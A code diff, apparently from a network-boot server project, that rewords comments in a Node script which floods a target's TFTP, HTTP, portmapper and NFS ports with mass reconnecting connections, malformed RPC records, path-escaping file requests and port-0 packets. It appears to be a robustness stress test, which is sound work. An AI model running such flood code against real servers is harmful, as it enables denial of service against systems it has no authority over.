@@ -1,4 +1,5 @@
-// Does to a server what hostile machines do, all at once, from many addresses, until it is ended.
+// Attacks a server in all ways of hostile machines at once, from many addresses, until it is
+// stopped.
 //
 //     node attack-program.ts SERVER ADDRESS…
 
@@ -11,7 +12,7 @@ import { callRecord } from '../../protocols/support/rpc-client.ts'
 
 const [server = '', ...addresses] = process.argv.slice(2)
 const [tftp, http, portMapper, nfs] = [69, 80, 111, 2049]
-/** Connections at once, to each port. */
+/** The number of simultaneous connections to each port. */
 const halfOpen = 1000
 const comeBackMs = 1000
 const fromPortZero = join(import.meta.dirname, 'from-port-zero.pl')
@@ -21,7 +22,7 @@ const nextAddress = () => addresses[turn++ % addresses.length] ?? ''
 const nfsCall = (procedure: number, fileHandle: Buffer) =>
   callRecord({}, 100003, procedure, (writer) => writer.opaque(fileHandle))
 
-/** What is wrong in a stream of records, or breaks off. */
+/** Streams of records that are broken or incomplete. */
 const rpc = [
   () => Buffer.from('80000100abcd', 'hex'),
   () => Buffer.from('7fffffff', 'hex'),
@@ -49,7 +50,7 @@ function open(port: number, all: readonly (() => Buffer)[]): void {
   socket.on('error', () => {})
   socket.on('connect', () => socket.write(all[turn % all.length]?.() ?? ''))
   socket.on('data', () => {})
-  // Whoever was thrown out comes back: some hundred a second.
+  // A closed connection is opened again: some hundreds a second.
   socket.on('close', () => setTimeout(open, comeBackMs, port, all))
 }
 
@@ -57,7 +58,7 @@ for (const [port, all] of Object.entries(requests)) {
   for (let count = 0; count < halfOpen; count++) open(Number(port), all)
 }
 
-/** Requests for files that are there, are not, or lie outside; and what is no packet at all. */
+/** Requests for existing, missing and outside files, and data that are not packets. */
 const datagrams = [
   Buffer.from('\0\x01boot.ipxe\0octet\0blksize\x0065464\0windowsize\x0065535\0'),
   Buffer.from('\0\x01boot.ipxe\0octet\0'),
@@ -77,7 +78,7 @@ for (let count = 0; count < 200; count++) {
   })
 }
 
-/** Where nobody can be answered: to each port that answers datagrams. */
+/** Packets from port 0, to each port that answers datagrams: no answer is possible. */
 setInterval(() => {
   const call = callRecord({}, 100005, 0).toString('hex', 4)
   const packets = datagrams.map((packet) => `${tftp}=${packet.toString('hex')}`)
